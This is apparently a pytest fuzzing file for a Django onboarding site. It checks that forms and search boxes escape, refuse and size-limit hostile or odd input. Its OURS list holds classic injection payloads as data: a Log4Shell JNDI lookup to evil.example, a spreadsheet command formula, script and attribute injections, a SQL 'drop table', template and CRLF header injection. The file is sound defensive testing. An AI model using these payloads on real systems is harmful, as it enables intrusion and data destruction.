"""Strings that other people's programs have choked on, in every field and every search box."""

from __future__ import annotations

from itertools import cycle, islice
from urllib.parse import urlencode

import pytest
from django.utils.html import escape
from lxml import html

from atrio.engine.forms.cleaning import as_typed
from atrio.onboarding.models import Fact, Typed
from atrio.onboarding.rules import TYPED_MOST
from tests.apply.people import CONTACT, Applicant
from tests.onboarding.house import furnish
from tests.site.world import World

# What the big list lacks.
OURS = [
    "a\0b",
    "\0",
    "\ufeff\u200b\u2060",
    "\u202egpj.exe",
    "\ud800",
    "\U0010ffff\uffff\ufdd0",
    "e\u0301" * 300,
    "Z̸̛̙͓͕̈́͊a̷l̶g̸o̶" * 50,
    "=cmd|' /C calc'!A0",
    "{{ 7*7 }}{% load i18n %}",
    "${jndi:ldap://evil.example/a}",
    "%(reference)s %s %n {0} {}",
    "company.tax_id == null",
    'x" onfocus="alert(1)" autofocus="',
    "</textarea></script><script>alert(1)</script>",
    "'; drop table onboarding_application; --",
    "-1",
    "1e999",
    "NaN",
    "0x1F",
    "١٢٣",
    "９９０００００１０００１０１",
    "\r\n.\r\nSet-Cookie: a=b",
    "\x1b[31mred\x07",
    "ﷺ" * 100,
    "ß" * 2000,
    "null",
    "[object Object]",
    "-" * 1000,
    " " * 1000,
]
# Answers that are wrong whatever stands in the other fields, so that the step stays.
ALWAYS_WRONG = {
    "confirm_company": {"company.address.postal_code": "?"},
    "give_contact": {"contact.role": "?", "contact.channel": "?"},
}
A_MEGABYTE = "ã" * 2**20


@pytest.fixture(scope="session")
def strings(naughty):
    return [text for text in [*naughty, *OURS] if text]


@pytest.fixture
def alice(db):
    furnish(name="strings")
    return Applicant()


def in_turn(strings, names):
    """Deal the strings out to the fields, so that each of them stands in one."""
    left = iter(strings)
    while dealt := dict(zip(names, islice(left, len(names)), strict=False)):
        yield dealt


def shows(page, text):
    """Say whether the page holds the text as it was typed, harmless."""
    return escape(as_typed(text)) in page


@pytest.mark.parametrize("step", ["confirm_company", "give_contact"])
def test_every_string_gets_an_answer_at_its_field_and_is_shown_again(alice, strings, step):
    alice.come_to(step)
    wrong = ALWAYS_WRONG[step]
    typed = html.fromstring(alice.text).xpath("//form[@data-leave-url]//input[@type!='hidden']")
    fields = [entry.name for entry in typed if entry.name not in wrong]
    lost = []
    for dealt in in_turn(strings, fields):
        answer = alice.client.post(alice.at, as_sent(wrong | dealt))
        assert answer.status_code == 422
        page = answer.content.decode()
        lost += [text for text in as_sent(dealt).values() if not shows(page, text)]
        assert not html.fromstring(page).xpath("//script[not(@src)] | //@onfocus"), dealt

    assert lost == []


@pytest.mark.parametrize("field", ["company.tax_id", "proof.code"])
def test_every_string_is_refused_as_a_number_or_a_code(alice, strings, field):
    alice.come_to("enter_tax_id" if field == "company.tax_id" else "prove_email")
    for text in islice(strings, 0, None, 4):
        answer = alice.client.post(alice.at, as_sent({field: text}))
        assert answer.status_code == 422, repr(text)
        assert shows(answer.content.decode(), as_sent({field: text})[field]), repr(text)


def as_sent(answers):
    """Let half a surrogate through to where it is looked at, as a browser of ill will would."""
    return {name: text.encode("utf-8", "replace").decode() for name, text in answers.items()}


def test_every_string_can_be_searched_for(db, strings):
    world = World()
    boxes = cycle(
        (world.browser(who), address)
        for who, address in (
            ("member", "/cabinet/shop/?"),
            ("admin", "/desk/?"),
            ("admin", "/desk/outbox/?"),
        )
    )
    for text in strings:
        browser, address = next(boxes)
        answer = browser.get(address + urlencode({"q": text, "category": text}, errors="replace"))
        assert answer.status_code == 200, (address, text)
        assert not html.fromstring(answer.content.decode()).xpath("//script[not(@src)]"), text


def test_an_associates_note_holds_whatever_is_written(db, strings):
    world = World()
    browser, address = world.browser("associate"), world.address("desk:decide")
    for text in islice(strings, 0, None, 8):
        answer = browser.post(address, as_sent({"review.note": text}))
        assert answer.status_code == 422, repr(text)


# ── how much ────────────────────────────────────────────────────────────────────────────────


def test_a_megabyte_gets_a_message_at_its_field_and_is_shown_again(alice):
    alice.come_to("give_contact").send(CONTACT | {"contact.name": A_MEGABYTE})

    assert alice.page.status_code == 422
    assert "120" in alice.error_at("contact.name")
    assert alice.inputs["contact.name"] == A_MEGABYTE
    assert alice.inputs["contact.phone"] == CONTACT["contact.phone"]


def test_of_a_megabyte_only_the_beginning_is_kept_for_later(alice):
    alice.come_to("give_contact").send(CONTACT | {"contact.name": A_MEGABYTE})

    assert Typed.objects.get().raw["contact.name"] == [A_MEGABYTE[:TYPED_MOST]]
    assert alice.open("give_contact").inputs["contact.name"] == A_MEGABYTE[:TYPED_MOST]
    assert alice.inputs["contact.email"] == CONTACT["contact.email"]


def test_a_field_repeated_five_hundred_times_is_kept_no_longer_than_one(alice):
    alice.come_to("give_contact").send({"contact.name": ["x" * 9_999 + str(n) for n in range(490)]})

    kept = Typed.objects.get().raw["contact.name"]
    assert sum(map(len, kept)) <= TYPED_MOST
    assert kept[-1].endswith("489")
    assert alice.open("give_contact").inputs["contact.name"].endswith("489")


def test_four_hundred_unknown_fields_are_stored_nowhere(alice):
    extra = {f"field_{number}": "x" * 1000 for number in range(400)}
    alice.come_to("enter_tax_id").send(extra | {"company.tax_id": "1"})
    assert alice.page.status_code == 422
    alice.send(extra | alice.right_answers("enter_tax_id"))

    assert "field_" not in str(list(Typed.objects.values_list()))
    assert not Fact.objects.filter(field__startswith="field_").exists()


@pytest.mark.parametrize(
    "number",
    [
        "99.000.001/0001-02",
        "99000001000110",
        "9900000100010",
        "990000010001011",
        "00000000000000",
        "11111111111111",
        "ABCDEFGHIJKLMN",
        "99.000.001/0001-0O",
        "99,000,001/0001-01x",
    ],
)
def test_a_wrong_number_says_what_is_wrong_with_it(alice, number):
    alice.come_to("enter_tax_id").send({"company.tax_id": number})

    assert alice.page.status_code == 422
    assert alice.error_at("company.tax_id")
    assert alice.inputs["company.tax_id"] == number


@pytest.mark.parametrize(
    "number",
    [
        "99.000.001/0001-01",
        " 99 000 001 0001 01 ",
        "９９０００００１０００１０１",
        "99000001/000101\u200b",
    ],
)
def test_a_right_number_may_be_written_as_people_write(alice, number):
    alice.come_to("enter_tax_id").send({"company.tax_id": number}).wait()

    assert alice.step == "confirm_company"
